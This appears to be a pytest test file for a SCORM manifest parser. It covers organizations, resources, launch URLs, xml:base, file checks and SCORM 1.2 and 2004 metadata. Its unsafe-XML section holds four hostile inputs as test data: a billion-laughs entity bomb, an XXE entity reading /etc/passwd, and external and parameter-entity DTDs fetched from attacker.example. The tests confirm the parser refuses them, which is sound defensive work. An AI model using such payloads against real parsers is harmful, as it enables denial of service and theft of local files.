"""Manifest parsing and validation, one small inline manifest per rule."""

from __future__ import annotations

import json

import pytest

from scormlms.scorm import manifest as mf
from scormlms.scorm.errors import PackageError
from scormlms.scorm.manifest import Manifest, build_launch_url, parse_manifest

NS_12 = (
    'xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" '
    'xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2"'
)
NS_2004 = (
    'xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" '
    'xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3" '
    'xmlns:adlseq="http://www.adlnet.org/xsd/adlseq_v1p3" '
    'xmlns:adlnav="http://www.adlnet.org/xsd/adlnav_v1p3" '
    'xmlns:imsss="http://www.imsglobal.org/xsd/imsss"'
)
SCO_12 = '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" href="index.html"/>'
SCO_2004 = '<resource identifier="r1" type="webcontent" adlcp:scormType="sco" href="index.html"/>'
ITEM = '<item identifier="i1" identifierref="r1"><title>Lesson</title></item>'


def doc(
    items: str = ITEM,
    resources: str = SCO_12,
    *,
    ns: str = NS_12,
    version: str | None = "1.2",
    orgs_attrs: str = 'default="org"',
    org_attrs: str = "",
    root_attrs: str = "",
    resources_attrs: str = "",
    tail: str = "",
) -> bytes:
    metadata = (
        f"<metadata><schema>ADL SCORM</schema><schemaversion>{version}</schemaversion></metadata>"
        if version is not None
        else ""
    )
    org_attrs = f" {org_attrs}" if org_attrs else ""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="m1" version="1" {ns} {root_attrs}>
  {metadata}
  <organizations {orgs_attrs}>
    <organization identifier="org"{org_attrs}><title>Course</title>{items}</organization>
  </organizations>
  <resources {resources_attrs}>{resources}</resources>
  {tail}
</manifest>""".encode()


def doc2004(items: str = ITEM, resources: str = SCO_2004, **kw: object) -> bytes:
    kw.setdefault("version", "2004 3rd Edition")
    return doc(items, resources, ns=NS_2004, **kw)  # type: ignore[arg-type]


def fails(data: bytes, code: str, files: list[str] | None = None) -> str:
    with pytest.raises(PackageError) as info:
        parse_manifest(data, files)
    assert info.value.code == code, info.value.message
    return info.value.message


def only_item(m: Manifest) -> mf.Item:
    items = m.launchable_items()
    assert len(items) == 1
    return items[0]


# --------------------------------------------------------------------------- unsafe / bad XML


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE manifest [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<manifest identifier="x"><organizations><organization identifier="o">
<title>&lol9;</title></organization></organizations></manifest>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE manifest [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<manifest identifier="x"><organizations><organization identifier="o">
<title>&x;</title></organization></organizations></manifest>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE manifest SYSTEM "http://attacker.example/evil.dtd">
<manifest identifier="x"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE manifest [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<manifest identifier="x"/>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtds_and_entities_are_refused(data: bytes) -> None:
    message = fails(data, mf.UNSAFE_XML)
    assert "imsmanifest.xml" in message and "DOCTYPE" in message
    assert "root:" not in message  # nothing of /etc/passwd leaked


def test_malformed_xml_names_line_and_column() -> None:
    data = b'<?xml version="1.0"?>\n<manifest identifier="x">\n  <organizations>\n</manifest>'
    message = fails(data, mf.MALFORMED_XML)
    assert message.startswith("imsmanifest.xml is not well-formed XML: mismatched tag")
    assert "(line 4, column 3)" in message


def test_empty_document_is_malformed() -> None:
    fails(b"", mf.MALFORMED_XML)


def test_absurd_nesting_is_refused() -> None:
    data = b"<manifest>" + b"<a>" * 500 + b"</a>" * 500 + b"</manifest>"
    fails(data, mf.MANIFEST_TOO_COMPLEX)


def test_root_must_be_manifest() -> None:
    message = fails(b"<html><body>hello</body></html>", mf.NOT_SCORM)
    assert "<html>" in message


# --------------------------------------------------------------------------- organizations


def test_no_organizations() -> None:
    data = doc(items="").replace(
        b'<organization identifier="org"><title>Course</title></organization>', b""
    )
    assert "no <organization>" in fails(data, mf.NO_ORGANIZATIONS)


def test_missing_organizations_element() -> None:
    data = b'<manifest identifier="m"><resources/></manifest>'
    fails(data, mf.NO_ORGANIZATIONS)


def two_orgs(default: str) -> bytes:
    orgs = f"""<organizations default="{default}">
      <organization identifier="first"><title>First</title>
        <item identifier="a" identifierref="r1"><title>A</title></item></organization>
      <organization identifier="second"><title>Second</title>
        <item identifier="b" identifierref="r1"><title>B</title></item></organization>
    </organizations>"""
    return f"""<manifest identifier="m" {NS_12}>
      <metadata><schemaversion>1.2</schemaversion></metadata>{orgs}
      <resources>{SCO_12}</resources></manifest>""".encode()


def test_default_organization_is_used() -> None:
    m = parse_manifest(two_orgs("second"))
    assert m.organization.identifier == "second"
    assert m.organizations_ids == ("first", "second")
    assert [i.identifier for i, _ in m.iter_items()] == ["b"]
    assert m.warnings == ()


def test_unknown_default_falls_back_to_first_with_warning() -> None:
    m = parse_manifest(two_orgs("nope"))
    assert m.organization.identifier == "first"
    assert any("'nope'" in w and "'first'" in w for w in m.warnings)


def test_titles_are_trimmed_and_default_to_identifier() -> None:
    items = """<item identifier="i1" identifierref="r1"><title>
          Lesson   one
        </title></item>
        <item identifier="i2" identifierref="r1"><title>   </title></item>
        <item identifier="i3" identifierref="r1"/>"""
    m = parse_manifest(doc(items))
    assert [i.title for i in m.launchable_items()] == ["Lesson one", "i2", "i3"]
    assert m.title == "Course" and m.organization.title == "Course"


def test_item_tree_depth_first() -> None:
    items = """<item identifier="a"><title>A</title>
        <item identifier="a1" identifierref="r1"/>
        <item identifier="a2"><item identifier="a2x" identifierref="r1"/></item>
      </item>
      <item identifier="b" identifierref="r1" isvisible="false"/>"""
    m = parse_manifest(doc(items))
    assert [(i.identifier, d) for i, d in m.iter_items()] == [
        ("a", 0),
        ("a1", 1),
        ("a2", 1),
        ("a2x", 2),
        ("b", 0),
    ]
    assert [i.identifier for i in m.launchable_items()] == ["a1", "a2x", "b"]
    assert not m.organization.items[0].is_launchable
    b = m.get_item("b")
    assert b is not None and b.is_visible is False and m.get_item("a1").is_visible  # type: ignore[union-attr]


# --------------------------------------------------------------------------- resources


def test_missing_resource_names_item_and_ref() -> None:
    items = '<item identifier="lesson7" identifierref="res_gone"><title>L</title></item>'
    message = fails(doc(items), mf.MISSING_RESOURCE)
    assert "'lesson7'" in message and "'res_gone'" in message


def test_sco_without_href_names_the_resource() -> None:
    res = '<resource identifier="broken" type="webcontent" adlcp:scormtype="sco"/>' + SCO_12
    message = fails(doc(ITEM, res), mf.SCO_WITHOUT_HREF)
    assert "'broken'" in message


def test_no_launchable_items() -> None:
    res = '<resource identifier="r1" type="webcontent" adlcp:scormtype="asset"/>'
    m = fails(doc(ITEM, res), mf.NO_LAUNCHABLE_ITEMS)
    assert "'org'" in m


@pytest.mark.parametrize(
    ("attr", "expected"),
    [
        ('adlcp:scormtype="sco"', "sco"),
        ('adlcp:scormtype="SCO"', "sco"),
        ('adlcp:scormtype="asset"', "asset"),
        ("", "asset"),  # missing: asset
    ],
)
def test_scorm_type_12(attr: str, expected: str) -> None:
    res = f'<resource identifier="r1" type="webcontent" {attr} href="index.html"/>'
    m = parse_manifest(doc(ITEM, res))
    assert m.resources["r1"].scorm_type == expected
    assert only_item(m).scorm_type == expected


def test_scorm_type_2004_camel_case() -> None:
    m = parse_manifest(doc2004())
    assert m.resources["r1"].scorm_type == "sco"


def test_resource_files_and_dependencies() -> None:
    res = """<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" href="index.html">
        <file href="index.html"/><file href="img/a.png"/><dependency identifierref="common"/>
      </resource>
      <resource identifier="common" type="webcontent" adlcp:scormtype="asset">
        <file href="shared/x.js"/></resource>"""
    m = parse_manifest(doc(ITEM, res))
    r1 = m.resources["r1"]
    assert r1.files == ("index.html", "img/a.png")
    assert r1.dependencies == ("common",)
    assert r1.type == "webcontent"
    assert m.resources["common"].href is None


# --------------------------------------------------------------------------- launch URLs


@pytest.mark.parametrize(
    ("href", "parameters", "expected"),
    [
        ("a.html", None, "a.html"),
        ("a.html", "", "a.html"),
        ("a.html", "?x=1", "a.html?x=1"),
        ("a.html", "&x=1", "a.html?x=1"),
        ("a.html", "x=1&y=2", "a.html?x=1&y=2"),
        ("a.html?content=p", "?x=1", "a.html?content=p&x=1"),
        ("a.html?content=p", "x=1", "a.html?content=p&x=1"),
        ("a.html", "#page3", "a.html#page3"),
        ("a.html#intro", "#page3", "a.html#intro"),  # href already has a fragment: ignored
        ("a.html#intro", "?x=1", "a.html?x=1#intro"),  # query goes before the fragment
        ("a.html", "?", "a.html"),
    ],
)
def test_build_launch_url(href: str, parameters: str | None, expected: str) -> None:
    assert build_launch_url(href, parameters) == expected


def test_item_parameters_are_applied() -> None:
    items = """<item identifier="quiz" identifierref="r1" parameters="?questions=Playing"/>
      <item identifier="plain" identifierref="r2"/>"""
    res = SCO_12 + (
        '<resource identifier="r2" type="webcontent" adlcp:scormtype="sco" '
        'href="launch.html?content=etiquette"/>'
    )
    m = parse_manifest(doc(items, res))
    quiz, plain = m.launchable_items()
    assert quiz.launch_url == "index.html?questions=Playing"
    assert quiz.parameters == "?questions=Playing"
    assert plain.launch_url == "launch.html?content=etiquette"


@pytest.mark.parametrize(
    ("manifest_base", "resources_base", "resource_base", "href", "expected"),
    [
        (None, None, None, "index.html", "index.html"),
        ("course/", None, None, "index.html", "course/index.html"),
        (None, "content/", None, "index.html", "content/index.html"),
        (None, None, "lesson1/", "index.html", "lesson1/index.html"),
        ("course/", "content/", "lesson1/", "index.html", "course/content/lesson1/index.html"),
        ("course", "content", "lesson1", "index.html", "course/content/lesson1/index.html"),
        ("course/", "../shared/", None, "x.html", "shared/x.html"),
        ("course/", None, "/abs/", "x.html", "/abs/x.html"),
        (
            "http://cdn.example/pkg/",
            "content/",
            None,
            "a.html?x=1",
            "http://cdn.example/pkg/content/a.html?x=1",
        ),
        ("course/", None, None, "http://other.example/a.html", "http://other.example/a.html"),
        ("course/", None, None, "./lesson/../index.html", "course/index.html"),
    ],
)
def test_xml_base_combinations(
    manifest_base: str | None,
    resources_base: str | None,
    resource_base: str | None,
    href: str,
    expected: str,
) -> None:
    def base(value: str | None) -> str:
        return f'xml:base="{value}"' if value is not None else ""

    res = (
        f'<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" '
        f'{base(resource_base)} href="{href}"><file href="{href}"/></resource>'
    )
    data = doc(
        ITEM,
        res,
        root_attrs=base(manifest_base),
        resources_attrs=base(resources_base),
    )
    m = parse_manifest(data)
    assert m.resources["r1"].href == expected
    assert m.resources["r1"].files == (expected,)
    assert only_item(m).launch_url == expected


def test_backslashes_in_href_are_folder_separators() -> None:
    res = (
        '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" '
        'href="lesson\\start.html?x=a\\b"/>'
    )
    m = parse_manifest(doc(ITEM, res), files=["lesson/start.html"])
    assert only_item(m).launch_url == "lesson/start.html?x=a\\b"
    res = '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" href="\\x.html"/>'
    fails(doc(ITEM, res), mf.MISSING_LAUNCH_FILE, files=["x.html"])


def test_xml_base_and_parameters_together() -> None:
    res = (
        '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" '
        'xml:base="sco1/" href="start.html?lang=en"/>'
    )
    items = '<item identifier="i1" identifierref="r1" parameters="&amp;mode=quiz"/>'
    m = parse_manifest(doc(items, res, resources_attrs='xml:base="content/"'))
    assert only_item(m).launch_url == "content/sco1/start.html?lang=en&mode=quiz"


# --------------------------------------------------------------------------- file checks


def test_missing_launch_file_names_item_and_path() -> None:
    message = fails(doc(), mf.MISSING_LAUNCH_FILE, files=["imsmanifest.xml", "other.html"])
    assert "'i1'" in message and "'index.html'" in message


def test_launch_file_check_is_case_sensitive_with_a_hint() -> None:
    message = fails(doc(), mf.MISSING_LAUNCH_FILE, files=["Index.html"])
    assert "'Index.html'" in message and "case-sensitive" in message


def test_launch_file_check_ignores_query_fragment_and_decodes() -> None:
    res = (
        '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" '
        'href="my%20lesson/start.html?x=1#top"/>'
    )
    m = parse_manifest(doc(ITEM, res), files=["my lesson/start.html"])
    assert only_item(m).launch_url == "my%20lesson/start.html?x=1#top"


def test_launch_file_check_uses_xml_base() -> None:
    m = parse_manifest(doc(resources_attrs='xml:base="pkg/"'), files=["pkg/index.html"])
    assert only_item(m).launch_url == "pkg/index.html"
    fails(doc(resources_attrs='xml:base="pkg/"'), mf.MISSING_LAUNCH_FILE, files=["index.html"])


def test_launch_outside_the_package_never_matches() -> None:
    res = '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" href="../x.html"/>'
    fails(doc(ITEM, res), mf.MISSING_LAUNCH_FILE, files=["x.html"])


def test_external_launch_url_is_a_warning() -> None:
    res = (
        '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" '
        'href="https://content.example/sco.html"/>'
    )
    m = parse_manifest(doc(ITEM, res), files=[])
    assert only_item(m).launch_url == "https://content.example/sco.html"
    assert any("external" in w for w in m.warnings)


def test_files_none_skips_file_checks() -> None:
    assert parse_manifest(doc(), None).warnings == ()


def test_missing_listed_files_are_warnings() -> None:
    res = """<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" href="index.html">
        <file href="index.html"/><file href="img/gone.png"/></resource>"""
    m = parse_manifest(doc(ITEM, res), files=["index.html"])
    assert m.warnings == (
        "The manifest lists img/gone.png (resource 'r1'), but the archive has no such file.",
    )


def test_many_missing_files_are_summarised() -> None:
    listed = "".join(f'<file href="f{i}.js"/>' for i in range(50))
    res = (
        '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" '
        f'href="index.html">{listed}</resource>'
    )
    m = parse_manifest(doc(ITEM, res), files=["index.html"])
    assert len(m.warnings) == 21
    assert m.warnings[-1] == "… and 30 more listed files are missing."


# --------------------------------------------------------------------------- standard


@pytest.mark.parametrize(
    ("ns", "version", "standard", "edition"),
    [
        (NS_12, "1.2", "1.2", None),
        (NS_2004, "CAM 1.3", "2004", "2nd"),
        (NS_2004, "2004 3rd Edition", "2004", "3rd"),
        (NS_2004, "2004 4th Edition", "2004", "4th"),
        (NS_2004, " 2004   4th edition ", "2004", "4th"),
    ],
)
def test_schemaversion(ns: str, version: str, standard: str, edition: str | None) -> None:
    res = SCO_12 if ns == NS_12 else SCO_2004
    m = parse_manifest(doc(ITEM, res, ns=ns, version=version))
    assert (m.standard, m.edition, m.schema_version) == (standard, edition, version.strip())
    assert m.warnings == ()


@pytest.mark.parametrize(
    ("ns", "standard"),
    [
        (NS_12, "1.2"),
        ('xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2"', "1.2"),
        (NS_2004, "2004"),
        ('xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3"', "2004"),
        ('xmlns:imsss="http://www.imsglobal.org/xsd/imsss"', "2004"),
        ('xmlns:adlnav="http://www.adlnet.org/xsd/adlnav_v1p3"', "2004"),
    ],
)
def test_standard_from_namespaces_without_schemaversion(ns: str, standard: str) -> None:
    res = '<resource identifier="r1" type="webcontent" href="index.html"/>'
    m = parse_manifest(doc(ITEM, res, ns=ns, version=None))
    assert m.standard == standard and m.edition is None and m.schema_version is None
    assert any("no metadata/schemaversion" in w for w in m.warnings)


def test_unknown_schemaversion_is_a_warning() -> None:
    m = parse_manifest(doc2004(version="2004 5th Edition"))
    assert m.standard == "2004" and m.edition is None
    assert any("'2004 5th Edition'" in w for w in m.warnings)


def test_no_namespace_at_all_defaults_to_12_with_warning() -> None:
    res = '<resource identifier="r1" type="webcontent" href="index.html"/>'
    m = parse_manifest(doc(ITEM, res, ns="", version=None))
    assert m.standard == "1.2"
    assert any("treated as SCORM 1.2" in w for w in m.warnings)


def test_prefixed_elements_are_matched_by_local_name() -> None:
    data = b"""<cp:manifest identifier="m" xmlns:cp="http://www.imsglobal.org/xsd/imscp_v1p1"
        xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3">
      <cp:metadata><cp:schemaversion>2004 4th Edition</cp:schemaversion></cp:metadata>
      <cp:organizations default="o"><cp:organization identifier="o"><cp:title>T</cp:title>
        <cp:item identifier="i" identifierref="r"><cp:title>I</cp:title></cp:item>
      </cp:organization></cp:organizations>
      <cp:resources><cp:resource identifier="r" type="webcontent" adlcp:scormType="sco"
        href="a.html"/></cp:resources></cp:manifest>"""
    m = parse_manifest(data, files=["a.html"])
    assert (m.standard, m.edition, m.title) == ("2004", "4th", "T")
    assert only_item(m).launch_url == "a.html" and only_item(m).is_sco


# --------------------------------------------------------------------------- SCORM 1.2 data


def test_scorm12_item_extensions() -> None:
    items = """<item identifier="i1" identifierref="r1"><title>L</title>
        <adlcp:prerequisites type="aicc_script">x</adlcp:prerequisites>
        <adlcp:maxtimeallowed>00:30:00</adlcp:maxtimeallowed>
        <adlcp:timelimitaction>exit,message</adlcp:timelimitaction>
        <adlcp:datafromlms>level=3</adlcp:datafromlms>
        <adlcp:masteryscore> 80 </adlcp:masteryscore></item>"""
    item = only_item(parse_manifest(doc(items)))
    assert item.mastery_score == 80.0
    assert item.max_time_allowed == "00:30:00"
    assert item.time_limit_action == "exit,message"
    assert item.data_from_lms == "level=3"
    assert item.sequencing_xml == "" and item.scaled_passing_score is None


def test_bad_masteryscore_is_a_warning() -> None:
    items = (
        '<item identifier="i1" identifierref="r1">'
        "<adlcp:masteryscore>high</adlcp:masteryscore></item>"
    )
    m = parse_manifest(doc(items))
    assert only_item(m).mastery_score is None
    assert any("masteryscore" in w and "'high'" in w for w in m.warnings)


def _three_items(prerequisites: str) -> str:
    return (
        '<item identifier="l1" identifierref="r1"><title>Lesson 1</title></item>'
        '<item identifier="l2" identifierref="r1"><title>Lesson 2</title></item>'
        f'<item identifier="q" identifierref="r1"><title>Quiz</title>{prerequisites}</item>'
    )


def test_scorm12_prerequisites_are_kept_with_their_type() -> None:
    element = '<adlcp:prerequisites type="aicc_script">l1&amp;l2</adlcp:prerequisites>'
    m = parse_manifest(doc(_three_items(element)))
    quiz = m.get_item("q")
    assert quiz is not None
    assert (quiz.prerequisites, quiz.prerequisites_type) == ("l1&l2", "aicc_script")
    assert m.warnings == ()
    assert m.to_json()["organization"]["items"][2]["prerequisites"] == "l1&l2"


@pytest.mark.parametrize(
    ("element", "text"),
    [
        ("<adlcp:prerequisites>l1</adlcp:prerequisites>", "l1"),  # aicc_script: the only type
        ('<adlcp:prerequisites type=" AICC_Script ">l1</adlcp:prerequisites>', "l1"),
        (
            "<adlcp:prerequisites type='aicc_script'><![CDATA[l1 & l2]]></adlcp:prerequisites>",
            "l1 & l2",
        ),
    ],
)
def test_scorm12_prerequisites_type_defaults_and_case(element: str, text: str) -> None:
    m = parse_manifest(doc(_three_items(element)))
    quiz = m.get_item("q")
    assert quiz is not None
    assert (quiz.prerequisites, quiz.prerequisites_type) == (text, "aicc_script")
    assert m.warnings == ()


@pytest.mark.parametrize(
    ("element", "warning"),
    [
        (
            '<adlcp:prerequisites type="aicc_script">l1 &amp;</adlcp:prerequisites>',
            "Item 'q' has the prerequisites 'l1 &', which are not enforced: the expression "
            "ends too early (at character 5).",
        ),
        (
            '<adlcp:prerequisites type="aicc_script">l1|lesson3</adlcp:prerequisites>',
            "Item 'q' has the prerequisites 'l1|lesson3', which are not enforced: it names "
            "'lesson3', which no item has.",
        ),
        (
            '<adlcp:prerequisites type="javascript">l1</adlcp:prerequisites>',
            "Item 'q' has prerequisites of type 'javascript'; only 'aicc_script' is defined "
            "(SCORM 1.2 CAM), so they are not enforced.",
        ),
    ],
)
def test_unusable_prerequisites_are_a_readable_warning_not_a_failure(
    element: str, warning: str
) -> None:
    assert parse_manifest(doc(_three_items(element))).warnings == (warning,)


def test_empty_prerequisites_are_none() -> None:
    m = parse_manifest(
        doc(_three_items("<adlcp:prerequisites type='aicc_script'> </adlcp:prerequisites>"))
    )
    quiz = m.get_item("q")
    assert quiz is not None and quiz.prerequisites == "" and m.warnings == ()


def test_scorm2004_has_no_prerequisites() -> None:
    items = (
        '<item identifier="i1" identifierref="r1"><title>L</title>'
        "<adlcp:prerequisites type='aicc_script'>i1</adlcp:prerequisites></item>"
    )
    m = parse_manifest(doc2004(items))
    assert only_item(m).prerequisites == ""
    assert m.warnings == (
        "Item 'i1' has adlcp:prerequisites, which SCORM 2004 does not define (it uses "
        "sequencing rules); they are ignored.",
    )


# --------------------------------------------------------------------------- SCORM 2004 data


def test_completion_threshold_3rd_edition_text() -> None:
    items = """<item identifier="i1" identifierref="r1">
        <adlcp:completionThreshold>0.75</adlcp:completionThreshold></item>"""
    item = only_item(parse_manifest(doc2004(items)))
    assert item.completion_threshold == 0.75
    assert item.completed_by_measure is False and item.progress_weight == 1.0


def test_completion_threshold_form_is_kept() -> None:
    text = """<item identifier="a" identifierref="r1">
        <adlcp:completionThreshold>0.75</adlcp:completionThreshold></item>"""
    attribute = """<item identifier="b" identifierref="r1">
        <adlcp:completionThreshold minProgressMeasure="0.75"/></item>"""
    a, b = parse_manifest(doc2004(text + attribute)).launchable_items()
    assert a.completion_threshold == b.completion_threshold == 0.75
    assert a.completion_threshold_is_text is True
    assert b.completion_threshold_is_text is False


def test_completion_threshold_4th_edition_attributes() -> None:
    items = """<item identifier="i1" identifierref="r1">
        <adlcp:completionThreshold completedByMeasure="true" minProgressMeasure="0.6"
            progressWeight="0.5"/></item>"""
    item = only_item(parse_manifest(doc2004(items, version="2004 4th Edition")))
    assert item.completion_threshold == 0.6
    assert item.completed_by_measure is True
    assert item.progress_weight == 0.5


def test_completion_threshold_4th_edition_weight_only() -> None:
    items = """<item identifier="i1" identifierref="r1">
        <adlcp:completionThreshold progressWeight="0.3"/></item>"""
    item = only_item(parse_manifest(doc2004(items, version="2004 4th Edition")))
    assert item.completion_threshold is None
    assert item.completed_by_measure is False and item.progress_weight == 0.3


def test_2004_item_extensions_and_limit_conditions() -> None:
    items = """<item identifier="i1" identifierref="r1"><title>L</title>
        <adlcp:timeLimitAction>exit,no message</adlcp:timeLimitAction>
        <adlcp:dataFromLMS>start=5</adlcp:dataFromLMS>
        <imsss:sequencing>
          <imsss:limitConditions attemptAbsoluteDurationLimit="PT1H30M"/>
        </imsss:sequencing></item>"""
    item = only_item(parse_manifest(doc2004(items)))
    assert item.time_limit_action == "exit,no message"
    assert item.data_from_lms == "start=5"
    assert item.max_time_allowed == "PT1H30M"


def test_primary_objective_measure_and_objective_ids() -> None:
    items = """<item identifier="i1" identifierref="r1"><imsss:sequencing>
        <imsss:objectives>
          <imsss:primaryObjective objectiveID="PRIMARY" satisfiedByMeasure="true">
            <imsss:minNormalizedMeasure>0.8</imsss:minNormalizedMeasure>
          </imsss:primaryObjective>
          <imsss:objective objectiveID="obj_a"/><imsss:objective objectiveID="obj_b"/>
        </imsss:objectives>
        <adlseq:objectives><adlseq:objective objectiveID="adl_only"/></adlseq:objectives>
      </imsss:sequencing></item>"""
    item = only_item(parse_manifest(doc2004(items)))
    assert item.satisfied_by_measure is True
    assert item.min_normalized_measure == 0.8
    assert item.scaled_passing_score == 0.8
    assert item.primary_objective_id == "PRIMARY"
    assert item.objective_ids == ("PRIMARY", "obj_a", "obj_b")
    assert item.sequencing_xml.startswith("<imsss:sequencing")
    assert "ns0" not in item.sequencing_xml and "minNormalizedMeasure>0.8<" in item.sequencing_xml


def test_adlseq_objectives_first_do_not_hide_imsss_objectives() -> None:
    items = """<item identifier="i1" identifierref="r1"><imsss:sequencing>
        <adlseq:objectives><adlseq:objective objectiveID="adl"/></adlseq:objectives>
        <imsss:objectives><imsss:primaryObjective objectiveID="p"/></imsss:objectives>
      </imsss:sequencing></item>"""
    assert only_item(parse_manifest(doc2004(items))).objective_ids == ("p",)


def test_satisfied_by_measure_default_threshold_is_one() -> None:
    items = """<item identifier="i1" identifierref="r1"><imsss:sequencing><imsss:objectives>
        <imsss:primaryObjective satisfiedByMeasure="true"/></imsss:objectives>
      </imsss:sequencing></item>"""
    item = only_item(parse_manifest(doc2004(items)))
    assert item.min_normalized_measure is None and item.scaled_passing_score == 1.0
    assert item.objective_ids == ()


def test_rollup_rules_defaults_and_values() -> None:
    items = """<item identifier="a" identifierref="r1"/>
      <item identifier="b" identifierref="r1"><imsss:sequencing>
        <imsss:rollupRules rollupObjectiveSatisfied="false" rollupProgressCompletion="false"
            objectiveMeasureWeight="0"/></imsss:sequencing></item>"""
    a, b = parse_manifest(doc2004(items)).launchable_items()
    assert (a.rollup_objective_satisfied, a.rollup_progress_completion) == (True, True)
    assert a.objective_measure_weight == 1.0
    assert (b.rollup_objective_satisfied, b.rollup_progress_completion) == (False, False)
    assert b.objective_measure_weight == 0.0


def test_sequencing_collection_idref_is_merged() -> None:
    items = """<item identifier="i1" identifierref="r1">
        <imsss:sequencing IDRef="shared">
          <imsss:objectives><imsss:primaryObjective objectiveID="local"/></imsss:objectives>
        </imsss:sequencing></item>"""
    collection = """<imsss:sequencingCollection>
        <imsss:sequencing ID="shared">
          <imsss:rollupRules rollupObjectiveSatisfied="false" objectiveMeasureWeight="0"/>
          <imsss:objectives><imsss:primaryObjective objectiveID="shared_obj"/></imsss:objectives>
          <imsss:deliveryControls completionSetByContent="true"/>
        </imsss:sequencing></imsss:sequencingCollection>"""
    item = only_item(parse_manifest(doc2004(items, tail=collection)))
    assert item.rollup_objective_satisfied is False  # from the collection
    assert item.rollup_progress_completion is True
    assert item.objective_ids == ("local",)  # local objectives win
    assert "deliveryControls" in item.sequencing_xml and "shared_obj" not in item.sequencing_xml
    assert "IDRef" not in item.sequencing_xml


def test_unknown_idref_is_a_warning() -> None:
    items = '<item identifier="i1" identifierref="r1"><imsss:sequencing IDRef="nope"/></item>'
    m = parse_manifest(doc2004(items))
    assert any("'nope'" in w for w in m.warnings)


def test_organization_sequencing_is_kept() -> None:
    control = '<imsss:controlMode choice="true" flow="true"/>'
    items = ITEM + f"<imsss:sequencing>{control}</imsss:sequencing>"
    m = parse_manifest(doc2004(items))
    assert "controlMode" in m.organization.sequencing_xml


def test_hide_lms_ui_values_in_order_without_repeats() -> None:
    items = """<item identifier="i1" identifierref="r1"><title>L</title>
        <adlnav:presentation><adlnav:navigationInterface>
          <adlnav:hideLMSUI>continue</adlnav:hideLMSUI>
          <adlnav:hideLMSUI>previous</adlnav:hideLMSUI>
          <adlnav:hideLMSUI>continue</adlnav:hideLMSUI>
          <adlnav:hideLMSUI>help</adlnav:hideLMSUI>
          <adlnav:hideLMSUI> suspendAll </adlnav:hideLMSUI>
        </adlnav:navigationInterface></adlnav:presentation></item>"""
    m = parse_manifest(doc2004(items))
    assert only_item(m).hide_lms_ui == ("continue", "previous", "suspendAll")
    assert any("'help'" in w and "hideLMSUI" in w for w in m.warnings)


def test_no_presentation_hides_nothing() -> None:
    assert only_item(parse_manifest(doc2004())).hide_lms_ui == ()


def test_shared_data_maps_with_defaults() -> None:
    items = """<item identifier="i1" identifierref="r1"><title>L</title>
        <adlcp:data>
          <adlcp:map targetID="notes" readSharedData="true" writeSharedData="true"/>
          <adlcp:map targetID="defaults"/>
          <adlcp:map targetID="read_never" readSharedData="false"/>
          <adlcp:map readSharedData="true"/>
        </adlcp:data></item>"""
    m = parse_manifest(doc2004(items, version="2004 4th Edition"))
    assert only_item(m).shared_data == (
        mf.SharedDataMap(target_id="notes", read_shared_data=True, write_shared_data=True),
        mf.SharedDataMap(target_id="defaults", read_shared_data=True, write_shared_data=False),
        mf.SharedDataMap(target_id="read_never", read_shared_data=False, write_shared_data=False),
    )
    assert any("without targetID" in w for w in m.warnings)


@pytest.mark.parametrize(
    ("org_attrs", "objectives", "shared_data"),
    [
        ("", True, True),
        ('adlseq:objectivesGlobalToSystem="false"', False, True),
        ('adlcp:sharedDataGlobalToSystem="false"', True, False),
        (
            'adlseq:objectivesGlobalToSystem="false" adlcp:sharedDataGlobalToSystem="0"',
            False,
            False,
        ),
    ],
)
def test_global_to_system_flags(org_attrs: str, objectives: bool, shared_data: bool) -> None:
    org = parse_manifest(doc2004(org_attrs=org_attrs)).organization
    assert org.objectives_global_to_system is objectives
    assert org.shared_data_global_to_system is shared_data


# --------------------------------------------------------------------------- JSON


def test_to_json_round_trips_through_json() -> None:
    items = """<item identifier="p"><title>Part</title>
        <item identifier="i1" identifierref="r1" parameters="?q=1"><title>L</title>
          <imsss:sequencing><imsss:objectives><imsss:primaryObjective objectiveID="o"
            satisfiedByMeasure="true"><imsss:minNormalizedMeasure>0.5</imsss:minNormalizedMeasure>
          </imsss:primaryObjective></imsss:objectives></imsss:sequencing></item></item>"""
    m = parse_manifest(doc2004(items))
    data = m.to_json()
    assert json.loads(json.dumps(data)) == data
    assert data["standard"] == "2004" and data["edition"] == "3rd"
    leaf = data["organization"]["items"][0]["children"][0]
    assert leaf["launch_url"] == "index.html?q=1"
    assert leaf["is_launchable"] is True and leaf["min_normalized_measure"] == 0.5
    assert data["resources"]["r1"]["scorm_type"] == "sco"
    assert data["warnings"] == []
